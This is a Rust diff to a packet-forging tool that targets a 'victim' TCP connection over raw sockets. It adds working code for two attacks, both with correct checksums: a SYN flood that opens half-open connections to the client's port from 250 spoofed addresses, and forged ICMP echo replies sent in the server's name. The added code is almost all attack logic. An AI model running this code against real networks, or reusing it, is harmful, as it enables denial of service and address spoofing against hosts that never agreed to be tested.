@@ -31,6 +31,11 @@ pub enum Forgery {
     NextWithLateStamp,
     /// The same with a timestamp that the server will use within 4 ms.
     NextWithEarlyStamp,
+    /// Opens connections from 250 addresses to the client's address, with right checksums, and never
+    /// finishes one.
+    Syn,
+    /// Answers echo requests in the server's name, with right checksums.
+    EchoReply,
 }
 
 /// A thread that forges until this drops.
@@ -48,7 +53,8 @@ impl Forger {
         };
         // IPPROTO_RAW: the IP header is in what is sent.
         let out = raw(AddressFamily::Inet, SockType::Raw, SockProtocol::Raw);
-        let tap = (forgery != Forgery::Blind)
+        let is_blind = matches!(forgery, Forgery::Blind | Forgery::Syn | Forgery::EchoReply);
+        let tap = (!is_blind)
             .then(|| raw(AddressFamily::Packet, SockType::Datagram, SockProtocol::EthAll));
         let (stop, sent) = <(Arc<AtomicBool>, Arc<AtomicU64>)>::default();
         let (stopped, count) = (Arc::clone(&stop), Arc::clone(&sent));
@@ -65,7 +71,11 @@ impl Forger {
                 }
                 let Some(segment) = seen.forge(forgery, &mut random) else { continue };
                 let to = SockaddrIn::from(victim.client);
-                let bytes = bytes(victim, segment);
+                let bytes = match forgery {
+                    Forgery::Syn => syn(victim, segment),
+                    Forgery::EchoReply => echo_reply(victim, segment),
+                    _ => bytes(victim, segment),
+                };
                 if sendto(out.as_raw_fd(), &bytes, &to, MsgFlags::MSG_DONTWAIT).is_ok() {
                     count.fetch_add(1, Ordering::Relaxed);
                 }
@@ -140,7 +150,7 @@ impl Seen {
     fn forge(&self, forgery: Forgery, random: &mut Random) -> Option<Segment> {
         let of = |next: Segment, stamp| Some(Segment { stamp, ..next });
         match forgery {
-            Forgery::Blind => {
+            Forgery::Blind | Forgery::Syn | Forgery::EchoReply => {
                 let (a, b) = (random.next(), random.next());
                 Some(Segment { seq: a as u32, ack: (a >> 32) as u32, stamp: b as u32 })
             }
@@ -175,6 +185,43 @@ fn bytes(victim: Victim, segment: Segment) -> Vec<u8> {
     bytes.extend([0; 4]);
     bytes.extend([7; 12]);
     bytes
+}
+
+/// A SYN to the port of the client.
+fn syn(victim: Victim, segment: Segment) -> Vec<u8> {
+    let mut bytes = vec![0x45, 0, 0, 0, 0, 0, 0, 0, 64, 6, 0, 0, 10, 9, 8];
+    bytes.push((segment.ack % 250) as u8 + 1);
+    bytes.extend(victim.client.ip().octets());
+    bytes.extend((segment.stamp as u16).to_be_bytes());
+    bytes.extend(victim.client.port().to_be_bytes());
+    bytes.extend(segment.seq.to_be_bytes());
+    bytes.extend([0, 0, 0, 0, 0x50, 0x02, 0x40, 0, 0, 0, 0, 0]);
+    let pseudo = [&bytes[12..20], &[0, 6, 0, 20], &bytes[20..]].concat();
+    let sum = checksum(&pseudo);
+    bytes[36..38].copy_from_slice(&sum.to_be_bytes());
+    bytes
+}
+
+fn echo_reply(victim: Victim, segment: Segment) -> Vec<u8> {
+    let mut bytes = vec![0x45, 0, 0, 0, 0, 0, 0, 0, 64, 1, 0, 0];
+    bytes.extend(victim.server.ip().octets());
+    bytes.extend(victim.client.ip().octets());
+    bytes.extend([0, 0, 0, 0]);
+    for word in [segment.seq, segment.ack, segment.stamp] {
+        bytes.extend(word.to_be_bytes());
+    }
+    bytes.resize(64, 0);
+    let sum = checksum(&bytes[20..]);
+    bytes[22..24].copy_from_slice(&sum.to_be_bytes());
+    bytes
+}
+
+/// The Internet checksum (RFC 1071) of an even number of bytes.
+fn checksum(bytes: &[u8]) -> u16 {
+    let words = bytes.chunks(2).map(|word| u32::from(word[0]) << 8 | u32::from(word[1]));
+    let sum: u32 = words.sum();
+    let sum = (sum & 0xffff) + (sum >> 16);
+    !((sum & 0xffff) + (sum >> 16)) as u16
 }
 
 /// SplitMix64.
